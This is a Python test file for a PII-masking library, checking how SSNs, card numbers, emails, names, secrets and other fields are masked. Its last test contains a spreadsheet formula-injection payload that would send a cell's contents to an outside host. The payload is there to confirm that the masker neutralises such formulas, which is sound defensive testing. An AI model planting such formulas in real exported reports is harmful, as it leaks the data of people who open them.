from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pii_hooks.mask import MAX_INPUT, mask_label, mask_value
from pii_hooks.models import CATEGORIES


@pytest.mark.parametrize(('value', 'category', 'expected'), [
    ('512-44-6789', 'ssn', '***-**-6789'),
    ('4111 1111 1111 1111', 'credit_card', '**** **** **** 1111'),
    ('A012345678', 'a_number', '******5678'),
    ('+1 (555) 014-2368', 'phone', '+* (***) ***-2368'),
    ('1234567', 'bank_account', '*****67'),
    ('90210', 'postal_code', '*****'),
    ('jane.doe@gmail.com', 'email', 'j***@g***.com'),
    ('jane.doe@mail.example.org', '', 'j***@m***.org'),
    ('Jane Q. Doe', 'person_name', 'J. Q. D.'),
    ('Doe, Jane', 'person_name', 'D. J.'),
    ('1985-03-12', 'date_of_birth', '****-**-**'),
    ('March 12, 1985', 'date_of_birth', '***** **, ****'),
    ('DE89 3704 0044 0532 0130 00', 'iban', 'DE****************3000'),
    ('203.0.113.77', 'ip_address', '203.*.*.*'),
    ('2001:db8::1', 'ip_address', '2001:****'),
    ('AKIAZZZZEXAMPLEKEY01', 'secret', 'AK******'),
    ('hunter2', 'secret', '********'),
    ('123 Main Street', 'street_address', '*** M*** S***'),
    ('Type 2 diabetes', 'health', 'T***'),
    ('Female', 'gender', 'F***'),
    ('jdoe_1985', 'username', 'j***'),
    ('', 'ssn', ''),
])
def test_mask_by_category(value: str, category: str, expected: str) -> None:
    assert mask_value(value, category) == expected


def test_long_values_are_cut_before_masking() -> None:
    note = ' '.join(['word'] * 200)
    masked = mask_value(note, 'health')
    assert masked == 'w***'
    masked = mask_value(note)
    assert masked == 'w*** w*** w*** w*** ...'
    digits = '1' * 500
    assert len(mask_value(digits)) == MAX_INPUT


def test_short_numbers_keep_nothing() -> None:
    assert mask_value('12345') == '*****'
    assert mask_value('2468') == '****'


def test_labels_pass_unless_value_shaped() -> None:
    assert mask_label('First Name') == 'First Name'
    assert mask_label('FY 2020-2021') == 'FY 2020-2021'
    assert mask_label('1985-03-12') == '1985-03-12'
    assert mask_label('sheet "People"') == 'sheet "People"'
    assert mask_label('512-44-6789') == '***-**-6789'
    assert mask_label('jane.doe@gmail.com') == 'j***@g***.com'
    assert mask_label('member 90210.csv') == 'member *****.***'


@pytest.mark.parametrize(('label', 'expected'), [
    ('Thaddeus Brightwater', 'T. B.'),            # a row of names taken for the header
    ("Ottoline O'Vanterpool-Smythe", 'O. O.'),
    ('Full Name', 'Full Name'),
    ('Principal Investigator', 'Principal Investigator'),
    ('Emergency Contact', 'Emergency Contact'),
    ('name', 'name'),
    ('Speaker', 'Speaker'),
    ('Applicant First Name', 'Applicant First Name'),
])
def test_name_shaped_labels_of_name_columns(label: str, expected: str) -> None:
    assert mask_label(label, 'person_name') == expected
    assert mask_label(label) == label             # other columns: only value shapes are masked


_ALNUM = st.text(alphabet='abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789', min_size=8,
                 max_size=40)


@given(value=_ALNUM, category=st.sampled_from(CATEGORIES))
def test_no_masked_form_holds_the_value(value: str, category: str) -> None:
    # a masked form never holds a run of the value long enough to identify it
    masked = mask_value(value, category)
    assert value not in masked
    assert len(masked) <= MAX_INPUT
    for start in range(len(value) - 5):
        assert value[start:start + 6] not in masked


def test_reports_opened_in_a_spreadsheet_run_no_formula() -> None:
    from pii_hooks.mask import mask_label, mask_value
    assert mask_label('=HYPERLINK("http://x?"&A1,"click")').startswith("'=")
    assert not mask_value('=1+2').startswith('=')
    assert mask_label('-12') == '-12' and mask_label('Email') == 'Email'
